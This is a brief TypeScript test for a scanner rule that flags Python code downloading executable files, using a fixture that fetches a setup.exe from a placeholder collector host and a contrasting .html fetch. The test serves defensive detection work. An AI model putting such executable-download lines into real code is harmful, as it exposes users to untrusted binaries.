import { testRule } from '../../../../../test/builders/python-package.ts';
import { executableUrl } from './rule.ts';

testRule(executableUrl, {
  seen: {
    'a program': "import requests\nrequests.get('https://collector.example.invalid/setup.exe')",
  },
  unseen: {
    'a page': "import requests\nrequests.get('https://collector.example.invalid/setup.html')",
  },
});
